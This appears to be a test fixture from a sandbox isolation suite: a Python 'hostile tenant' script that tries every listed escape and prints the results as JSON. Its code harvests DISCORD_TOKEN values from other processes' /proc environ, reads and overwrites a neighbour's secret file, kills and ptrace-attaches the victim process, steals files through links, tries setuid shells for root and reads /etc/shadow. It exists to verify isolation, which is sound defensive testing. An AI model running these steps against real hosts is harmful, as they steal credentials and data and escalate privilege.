"""A hostile tenant: run as a server's start command, it tries every way out of its sandbox that
the isolation issue lists and prints what it got as one JSON line (``ATTACK {...}``).

Standard library only; what it knows of its neighbour comes from its variables, as an attacker
would learn it (pids by guessing, paths from the agent's README, ports by scanning).
"""

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time

env = os.environ
VICTIM_PID = int(env["VICTIM_PID"])
VICTIM_DIR = env["VICTIM_DIR"]
MEDIA_DIR = env["MEDIA_DIR"]
LOOPBACK_PORTS = [int(port) for port in env["LOOPBACK_PORTS"].split(",")]
got: dict[str, object] = {}


def attempt(name, action):
    try:
        got[name] = action()
    except Exception as error:  # every failure is a result
        got[name] = f"failed: {type(error).__name__}: {error}"


def read(path):
    with open(path, "rb") as file:
        return file.read(200).decode(errors="replace")


def write(path):
    with open(path, "w") as file:
        file.write("owned")
    return "written"


def visible_pids():
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


def environ_with_secret():
    found = []
    for pid in visible_pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                entries = file.read().split(b"\0")
        except OSError:
            continue
        found += [entry.decode() for entry in entries if entry.startswith(b"DISCORD_TOKEN=")]
    return found or "failed: no readable environ holds a DISCORD_TOKEN"


def connect(port):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
        connection.sendall(b"ping\n")
        return f"connected: {connection.recv(64)!r}"


def ptrace_attach(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "attached"


def hard_link():
    os.link(f"{VICTIM_DIR}/secret.txt", "stolen-by-link")
    return read("stolen-by-link")


def symlink_then_read():
    os.symlink(f"{VICTIM_DIR}/secret.txt", "stolen-by-symlink")
    return read("stolen-by-symlink")


def setuid_root():
    # su is setuid root on the node; in the sandbox it must not give root.
    result = subprocess.run(
        ["/bin/su", "-c", "id -u"], input="", capture_output=True, text=True, timeout=5
    )
    if result.returncode == 0 and result.stdout.strip() == "0":
        return "root"
    return f"failed: su exited {result.returncode}"


def own_setuid_copy():
    with open("/bin/sh", "rb") as source, open("sh-setuid", "wb") as target:
        target.write(source.read())
    os.chmod("sh-setuid", 0o4755)  # noqa: S103 - the attack
    output = subprocess.run(
        ["./sh-setuid", "-p", "-c", "id -u"], capture_output=True, text=True, timeout=5
    ).stdout.strip()
    return "root" if output == "0" else f"failed: uid {output}"


attempt("proc_neighbours", lambda: [pid for pid in visible_pids() if pid == VICTIM_PID])
attempt("process_count", lambda: len(visible_pids()))
attempt("victim_environ", environ_with_secret)
attempt("victim_environ_by_pid", lambda: read(f"/proc/{VICTIM_PID}/environ"))
attempt("victim_list", lambda: os.listdir(VICTIM_DIR))
attempt("victim_read", lambda: read(f"{VICTIM_DIR}/secret.txt"))
attempt("victim_write", lambda: write(f"{VICTIM_DIR}/secret.txt"))
attempt("victim_signal", lambda: os.kill(VICTIM_PID, signal.SIGKILL) or "signalled")
attempt("victim_ptrace", lambda: ptrace_attach(VICTIM_PID))
attempt("servers_list", lambda: os.listdir(os.path.dirname(VICTIM_DIR)))
attempt("media_list", lambda: os.listdir(MEDIA_DIR))
attempt("media_read", lambda: read(f"{MEDIA_DIR}/attachment.txt"))
for port in LOOPBACK_PORTS:
    attempt(f"loopback_{port}", lambda port=port: connect(port))
attempt("hard_link", hard_link)
attempt("symlink", symlink_then_read)
attempt("proc_root", lambda: os.listdir(f"/proc/1/root{os.path.dirname(VICTIM_DIR)}"))
attempt("proc_self_root", lambda: read(f"/proc/self/root{VICTIM_DIR}/secret.txt"))
attempt("setuid_root", setuid_root)
attempt("own_setuid", own_setuid_copy)
attempt("write_system", lambda: write("/usr/bin/owned"))
attempt("write_root", lambda: write("/owned"))
attempt("node_secrets", lambda: read("/etc/shadow"))
attempt("agent_data", lambda: os.listdir(os.path.dirname(os.path.dirname(VICTIM_DIR))))
attempt("user_namespace", lambda: os.unshare(os.CLONE_NEWUSER) or "unshared")
attempt("uid", lambda: [os.getuid(), os.geteuid()])

print("ATTACK " + json.dumps(got), flush=True)
sys.stdout.flush()
while True:
    time.sleep(3600)
